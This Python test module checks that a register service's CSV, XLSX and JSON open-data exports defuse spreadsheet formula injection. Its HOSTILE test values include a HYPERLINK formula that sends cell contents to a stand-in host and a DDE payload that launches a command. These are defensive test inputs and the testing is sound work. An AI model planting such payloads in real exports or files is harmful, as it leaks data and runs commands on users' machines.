"""Formulas defused in every CSV and workbook the service writes (register/spreadsheets.py): a
text cell a spreadsheet would evaluate gets a leading apostrophe in CSV and is a string cell in
XLSX; numbers, dates and identifiers stay exact, and so does JSON. The access-log extract and
the quality report have their own hostile-value tests (test_access_log_review,
test_quality_report); this module has the open data and the rule itself."""

import csv
import datetime
import io
import json
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from register.spreadsheets import csv_cell
from tests.api_support import body
from tests.factories import DecisionFactory, FacilityFactory, ProviderFactory

HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?"&A1;"Klicka")',
    "+": "+SUM(1+1)",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "line break": "\r\n=1+1",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_csv_cell__text_a_spreadsheet_would_evaluate__leading_apostrophe(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [-5, Decimal("-1.5"), 0, True, None, datetime.date(2025, 1, 31), "3.2.2-13748/2022",
     "556677-8899", "Ängsgården", "", "a=b"],
)  # fmt: skip
def test_csv_cell__numbers_dates_identifiers_and_plain_text__as_they_are(value):
    assert csv_cell(value) == value


@pytest.mark.django_db(databases="__all__")
def test_open_data__hostile_texts_defused_in_csv_text_in_xlsx_exact_in_json(client):
    facility = FacilityFactory(
        name=HOSTILE["="], provider=ProviderFactory(name=HOSTILE["+"]), places=7
    )
    decision = DecisionFactory(facility=facility, summary=HOSTILE["-"])

    facilities = list(
        csv.DictReader(io.StringIO(body(client.get("/oppna-data/verksamheter.csv")).decode()))
    )
    decisions = list(
        csv.DictReader(io.StringIO(body(client.get("/oppna-data/beslut.csv")).decode()))
    )
    (row,) = [row for row in facilities if row["facility_id"] == facility.facility_id]
    (decision_row,) = [row for row in decisions if row["diarienummer"] == decision.diarienummer]
    assert row["name"] == "'" + HOSTILE["="]
    assert row["provider_name"] == "'" + HOSTILE["+"]
    assert decision_row["summary"] == "'" + HOSTILE["-"]
    # Numbers, dates and identifiers untouched.
    assert row["places"] == "7"
    assert row["start_date"] == "2015-01-01"
    assert row["provider_organisation_number"] == facility.provider.organisation_number

    items = json.loads(body(client.get("/oppna-data/verksamheter.json")))["items"]
    (item,) = [item for item in items if item["facility_id"] == facility.facility_id]
    assert (item["name"], item["provider_name"]) == (HOSTILE["="], HOSTILE["+"])

    sheet = load_workbook(io.BytesIO(body(client.get("/oppna-data/verksamheter.xlsx")))).active
    header = [cell.value for cell in sheet[1]]
    (cells,) = [
        cells for cells in sheet.iter_rows(min_row=2)
        if cells[header.index("facility_id")].value == facility.facility_id
    ]  # fmt: skip
    name = cells[header.index("name")]
    assert (name.value, name.data_type) == (HOSTILE["="], "s")  # text, not a formula
    assert cells[header.index("places")].value == 7
